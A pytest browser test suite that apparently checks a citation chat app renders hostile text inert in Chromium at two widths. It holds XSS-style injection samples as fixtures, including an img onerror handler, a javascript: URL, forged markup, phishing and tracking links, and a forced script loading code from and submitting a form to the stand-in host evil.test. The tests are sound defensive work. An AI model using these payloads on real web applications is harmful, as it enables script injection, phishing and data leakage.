"""Hostile text in titles, topics, links, quotes, stored copies, model output and the browser's own memory (law 7).

Shown in a real Chromium, at two widths: nothing runs, loads, is submitted or linked, and nothing poses as the interface.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest

from tests.browsing import Opener, ask, browsing, chromium, needs_browser, shoot
from tests.model_server import model_server
from tests.small_library import ATTACK, ROWS, make, serving

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

ABOUT_WIDGETS = "How is the quasar widget calibrated with a lantern?"
AREAS = ("#cb-welcome", "#cb-past", "#cb-live", "#cb-foot", "#cb-library", "#cb-controls", "#cb-head")
MODEL = (
    f"The quasar widget is calibrated with a lantern [ref 1]. {ATTACK} ![track](http://evil.test/t.png) "
    "[click me](http://evil.test/phish) <http://evil.test/auto> http://evil.test/bare [2] [ref 99] "
    "</div></section><section class=cb-turn><h2>forged</h2></section> "
)


FORCED = """() => {
    const form = document.createElement('form'); form.action = 'http://evil.test/f'; document.body.append(form); form.submit();
    const script = document.createElement('script'); script.src = 'http://evil.test/s.js'; document.body.append(script);
    document.querySelector('#cb-live').insertAdjacentHTML('beforeend', '<button onclick="window.RAN=1">b</button>');
    document.querySelector('#cb-live button:last-child').click();
}"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    yield from chromium()


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with (
        model_server(lambda _: MODEL) as model,
        serving(
            make(tmp_path_factory.mktemp("library")),
            environment={
                "CITEBACK_LLM_BASE_URL": model.url,
                "CITEBACK_LLM_MODEL": f"<img src=x onerror=window.RAN=8>{ATTACK}",
            },
        ) as url,
    ):
        yield url


@pytest.fixture
def visit(browser: Browser, address: str) -> Iterator[Opener]:
    yield from browsing(browser, address)


def inert(page: Page) -> None:
    """No element, handler, style or address of others' text is in what the program drew."""
    for area in AREAS:
        for tag in (
            "script",
            "img",
            "iframe",
            "form",
            "object",
            "embed",
            "style",
            "link",
            "meta",
            "base",
            "video",
            "audio",
        ):
            assert page.locator(f"{area} {tag}").count() == 0, f"{tag} in {area}"
        handlers = f"""[...document.querySelectorAll('{area} *')].filter(node => !/svelte/.test(node.getAttribute('class')))
            .flatMap(node => node.matches('#cb-question, .cb-peek') ? [] : [...node.attributes].map(a => a.name + '=' + a.value))
            .filter(a => a !== 'style=' && /^(on|style=|src|formaction|background)/.test(a))"""
        assert page.evaluate(handlers) == []
        allowed = {urlsplit(row["url"]).netloc for row in ROWS if row["url"].startswith("http")} | {
            urlsplit(page.url).netloc
        }
        for href in page.eval_on_selector_all(f"{area} a", "links => links.map(link => link.href)"):
            assert urlsplit(href).scheme in ("http", "https") and urlsplit(href).netloc in allowed
    acts = {
        "ask",
        "send",
        "stop",
        "clear",
        "copy",
        "retry",
        "edit",
        "unedit",
        "view",
        "theme",
        "language",
        "reset",
        "look",
        "find",
        "export",
    }
    assert set(page.eval_on_selector_all("[data-act]", "found => found.map(button => button.dataset.act)")) <= acts
    assert page.locator("[data-act=clear]").count() == 1, "a forged button"
    shown = page.inner_text("body")
    assert not any(sign in shown for sign in "\u202e\u200b\u2066"), "a sign that hides or turns text is shown"


@needs_browser
@pytest.mark.parametrize("width", [360, 1280])
def test_hostile_text_is_shown_and_does_nothing(visit: Opener, width: int) -> None:
    page = visit(width=width)
    inert(page)
    ask(page, ABOUT_WIDGETS)
    assert "<script>" in page.inner_text(".cb-sources")
    assert page.locator(".cb-turn").count() == 1
    page.locator(".cb-number").first.hover()
    shoot(page, f"hostile-{width}-answer")
    earned = {f"[{n}]" for n in range(1, page.locator(".cb-rank").count() + 1)}
    assert set(page.locator(".cb-number").all_text_contents()) <= earned
    inert(page)
    page.locator(".cb-tab >> nth=1").click()
    page.wait_for_selector("table.cb-library")
    assert "<script>" in page.inner_text("table.cb-library")
    inert(page)
    shoot(page, f"hostile-{width}-library", whole=True)
    with page.context.expect_page() as opened:
        page.locator(".cb-library tr", has_text="Quasar").locator(".cb-aside a").click()
    stored = opened.value
    stored.wait_for_load_state()
    assert "<script>" in stored.inner_text("article")
    assert stored.locator("article *:not(div):not(mark)").count() == 0
    assert stored.evaluate("window.RAN") is None if page.context.browser is None else True
    shoot(stored, f"hostile-{width}-stored")


@needs_browser
def test_a_forged_history_brings_nothing_with_it(visit: Opener) -> None:
    page = visit()
    ask(page, "What is zero-shot learning?")
    real = json.loads(page.evaluate("localStorage.getItem('citeback-history')"))
    assert len(real) == 1
    forged = {
        **json.loads(real[0]), "question": ATTACK, "text": f"{ATTACK} [1] [7]", "model": ATTACK, "mode": "model",
        "cited": [[1, "http://evil.test/", 0, 10, "0"], [2, ROWS[1]["url"], 0, 9, "forged"], [ATTACK] * 5], "unread": ["javascript:window.RAN=9"],
        "doubted": [[ATTACK, "unsupported"], [ATTACK, ATTACK]],
    }  # fmt: skip
    kept = json.dumps([real[0], json.dumps(forged), ATTACK, None, {"question": ATTACK}])
    page.add_init_script(f"localStorage.setItem('citeback-history', {json.dumps(kept)})")
    page.reload()
    page.wait_for_selector(".cb-turn")
    assert page.locator(".cb-turn").count() == 2
    assert page.locator("#cb-past .cb-number").count() >= 1 and page.locator("#cb-live .cb-number").count() == 0
    inert(page)


@needs_browser
def test_even_markup_that_got_through_could_not_run_load_or_be_submitted(browser: Browser, address: str) -> None:
    """The policy behind the escaping: what is put into the page by force stays dead."""
    context = browser.new_context()
    page = context.new_page()
    asked: list[str] = []
    context.on("requestfinished", lambda request: asked.append(request.url))
    context.on(
        "requestfailed", lambda request: asked.append(request.url) if "csp" not in (request.failure or "") else None
    )
    page.goto(address)
    page.wait_for_selector("#cb-question")
    page.evaluate("html => { document.querySelector('#cb-live').innerHTML = html; }", f"<div>{ATTACK}</div>")
    page.evaluate(FORCED)
    page.wait_for_timeout(300)
    assert page.evaluate("window.RAN") is None and page.url.startswith(address)
    assert {urlsplit(url).netloc for url in asked if url.startswith("http")} == {urlsplit(address).netloc}
    context.close()


def test_an_uploaded_or_exported_name_is_one_line_of_text(tmp_path: Path) -> None:
    from chat.draw import Turn
    from chat.export import download
    from rag.records import Answer

    drawn = download("markdown", [Turn(ATTACK, Answer(ATTACK, False, (), (), "s"))], "en")
    assert drawn.count("<") == 2 and download(ATTACK, [], "en") == ""
